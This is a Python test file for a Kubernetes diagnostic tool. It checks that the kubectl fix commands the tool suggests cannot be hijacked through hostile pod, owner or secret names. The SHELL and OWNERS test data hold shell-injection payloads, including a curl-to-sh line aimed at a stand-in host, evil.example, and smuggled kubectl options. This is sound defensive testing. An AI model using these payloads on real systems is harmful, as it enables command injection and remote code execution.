"""A fix that is a command can be copied, whatever the cluster has in the places of names."""

from __future__ import annotations

import re
import shlex
import subprocess
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lifecycle_fleet.why.caveats import CAVEATS, caveat
from lifecycle_fleet.why.facts import Facts
from lifecycle_fleet.why.finding import Saying
from lifecycle_fleet.why.fix import is_command, rendered
from lifecycle_fleet.why.pod import Verdict, explain
from lifecycle_fleet.why.rules import RULES
from lifecycle_fleet.why.rules.rollouts import CAUSES, CONSEQUENCES

from plugins.fleet.tests.test_why_rules import ALL
from plugins.fleet.tests.why_objects import NAME, pod, waiting

SAYINGS: Final = [
    *(saying for rule in (*RULES, *CAUSES, *CONSEQUENCES) for saying in rule.sayings),
    *CAVEATS,
]
COMMANDS: Final = [each for each in SAYINGS if is_command(each.fix)]
FIELD: Final = re.compile(r"(?<!\{)\{(\w+)\}(?!\})")
SEVERAL: Final = ("words", "previous")
"""The fields that stand for several words."""
SHELL: Final = (
    "x;curl${IFS}evil.example|sh;#",
    "x$(touch owned)",
    "`touch owned`",
    "a' ; touch owned ; '",
    'a" ; touch owned ; "',
    "a&calc&",
    "a\ntouch owned",
    "--server=https://evil.example",
    "-",
    "~root",
    "*",
    "a b",
    "=ls",
    "!!",
    "",
)
"""Texts that do something if a shell or kubectl reads them."""
HOSTILE = st.one_of(st.sampled_from(SHELL), st.text(max_size=20))


def options(command: str) -> list[str]:
    """The words of a command that start with a dash and are options of the program itself."""
    own = shlex.split(command)
    own = own[: own.index("--")] if "--" in own else own
    return [each for each in own if each.startswith("-")]


def is_harmless(fix: str) -> bool:
    """Whether a shell reads a fix as the words of one command, and nothing else."""
    if is_command(fix):
        return shlex.join(shlex.split(fix)) == fix and fix.isprintable()
    _, _, mentioned = fix.partition("kubectl ")
    return not {*mentioned} & {*";&|$`<>\\\"'*?~\n"}


def all_fixes(verdict: Verdict) -> Iterator[str]:
    """Every fix of an answer."""
    yield from (each.fix for each in verdict.findings)
    yield from (each.fix for each in verdict.caveats)


@pytest.mark.parametrize("saying", COMMANDS)
@settings(max_examples=30, deadline=None)
@given(data=st.data())
def test_no_value_adds_a_command_or_an_option(saying: Saying, data: st.DataObject) -> None:
    """Whatever a field has, the command has the words and the options of its template."""
    names = {*FIELD.findall(saying.fix)}
    fields: dict[str, Any] = {name: data.draw(HOSTILE, name) for name in names - {*SEVERAL}}
    fields |= {"previous": ()} if "previous" in names else {}
    if "words" in names:
        fields["words"] = tuple(data.draw(st.lists(HOSTILE, min_size=1, max_size=3), "words"))
    fix = rendered(saying.fix, fields)

    template = saying.fix.replace("{previous}", "")
    assert is_harmless(fix)
    assert options(fix) == options(template.replace("{{", "{").replace("}}", "}"))
    if "words" not in names:
        assert len(shlex.split(fix)) == len(shlex.split(template))


@pytest.mark.parametrize("saying", SAYINGS)
def test_no_value_turns_a_sentence_into_a_command(saying: Saying) -> None:
    """A fix that starts with a field could be shown as a command to copy."""
    assert not FIELD.match(saying.fix)
    if "{words}" in saying.fix:
        assert saying.fix.endswith(" -- {words}"), "its options must not become those of kubectl"


@pytest.mark.parametrize("value", SHELL)
def test_a_sentence_that_mentions_a_command_has_only_names(value: str) -> None:
    """Such a command is copied as well."""
    template = "Wait. If this does not change, run kubectl describe node {node}"

    assert rendered(template, {"node": value}) == template.format(node="NODE")
    assert rendered(template, {"node": "node-1"}) == template.format(node="node-1")


def test_names_and_commands_are_shown_as_they_are() -> None:
    """Names need no quotes, and a command of the pod has those that it needs."""
    command = "kubectl -n {ns} exec {pod} -c {container} -- {words}"
    given = {"ns": "shop", "pod": NAME, "container": "app", "words": ("sh", "-c", "a  'b' && c")}

    fix = rendered(command, given)

    assert fix.startswith(f"kubectl -n shop exec {NAME} -c app -- sh -c ")
    assert shlex.split(fix)[-3:] == ["sh", "-c", "a  'b' && c"]


@pytest.mark.parametrize("words", [("sh", "-c", "a\nb"), ("x" * 601,), ("a\x1b[2J",)])
def test_a_command_that_does_not_fit_a_line_is_named(words: tuple[str, ...]) -> None:
    """Cut off, or without its line breaks, it would be another command."""
    assert rendered("kubectl exec {pod} -- {words}", {"pod": NAME, "words": words}) == (
        f"kubectl exec {NAME} -- COMMAND"
    )


def test_a_caution_is_as_careful() -> None:
    """The commands of cautions have names of the cluster too."""
    saying = next(each for each in CAVEATS if is_command(each.fix))

    found = caveat(saying, why="x", ns="shop", pod="x;id", number=1)

    assert "x;id" not in found.fix
    assert "POD" in found.fix


def leaves(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """The path of each text of an object."""
    if isinstance(value, str):
        yield path
    elif isinstance(value, (dict, list, tuple)):
        items = value.items() if isinstance(value, dict) else enumerate(value)
        for key, each in items:
            yield from leaves(each, (*path, key))


def with_text(value: Any, path: tuple[Any, ...], hostile: str, at: float) -> Any:
    """An object in which a text of anyone stands inside or after one of the texts."""
    if not path:
        cut = int(len(value) * at)
        return value[:cut] + hostile + value[cut:]
    key, *rest = path
    items = value.items() if isinstance(value, dict) else enumerate(value)
    changed = {k: with_text(v, tuple(rest), hostile, at) if k == key else v for k, v in items}
    if isinstance(value, dict):
        return changed
    named = hasattr(value, "_fields")
    return type(value)(*changed.values()) if named else type(value)(changed.values())


@settings(max_examples=250, deadline=None)
@given(st.data(), HOSTILE, st.sampled_from([0.0, 0.5, 1.0]))
def test_each_fix_of_a_rule_is_harmless(data: st.DataObject, hostile: str, at: float) -> None:
    """Names, images, labels, messages: any text of the cluster may be that of anyone."""
    facts = data.draw(st.sampled_from([*ALL.values()]))
    parts = ("pod", "services", "slices", "budgets", "events", "answers")
    given = {name: getattr(facts, name) for name in parts}
    for _ in range(data.draw(st.integers(1, 4))):
        path = data.draw(st.sampled_from([*leaves(given)]))
        given = with_text(given, path, hostile, at)

    assert all(map(is_harmless, all_fixes(explain(replace(facts, **given)))))


OWNERS: Final = [
    ("ReplicaSet", "x;touch${IFS}owned;#-abc", "abc"),
    ("StatefulSet", "$(touch owned)", "abc"),
    ("DaemonSet", "a' | touch owned | '", "abc"),
]


@pytest.mark.parametrize(("kind", "name", "template"), OWNERS)
def test_the_owner_of_a_pod_runs_nothing_in_the_shell(
    tmp_path: Path, kind: str, name: str, template: str
) -> None:
    """A real shell runs kubectl with the words of the fix, and nothing of the name."""
    found = pod(
        waiting("ImagePullBackOff", "not found"),
        ready=False,
        ownerReferences=[{"kind": kind, "name": name, "uid": "1", "controller": True}],
        labels={"pod-template-hash": template},
    )
    verdict = explain(Facts(pod=found, now=0.0))
    (fix,) = (each.fix for each in verdict.findings if each.rule == "image")

    kubectl = tmp_path / "bin" / "kubectl"
    kubectl.parent.mkdir()
    kubectl.write_text("#!/bin/sh\nprintf '%s\\n' \"$@\"\n")
    kubectl.chmod(0o755)
    done = subprocess.run(
        ["/bin/sh", "-c", fix],
        cwd=tmp_path,
        env={"PATH": f"{kubectl.parent}:/usr/bin:/bin"},
        capture_output=True,
        text=True,
        check=True,
    )

    assert done.stdout.splitlines() == ["-n", "shop", "set", "image", "OWNER", "orders=IMAGE"]
    assert [each.name for each in tmp_path.iterdir()] == ["bin"]


def test_the_name_of_a_missing_key_runs_nothing() -> None:
    """The message of a container has the name of a Secret, which anyone may choose."""
    message = "couldn't find key password in Secret shop/--kubeconfig=evil"
    found = pod(waiting("CreateContainerConfigError", message), ready=False)
    verdict = explain(Facts(pod=found, now=0.0))

    assert [each.fix for each in verdict.findings if each.rule == "container-config"] == [
        "kubectl -n shop edit secret NAME"
    ]


def test_the_facts_of_a_rule_keep_their_names() -> None:
    """An ordinary pod has its names in each command."""
    capitals = {
        word
        for facts in ALL.values()
        for fix in all_fixes(explain(facts))
        if is_command(fix)
        for word in shlex.split(fix)
        if word.isupper()
    }

    assert capitals <= {"NAME", "COMMAND"}
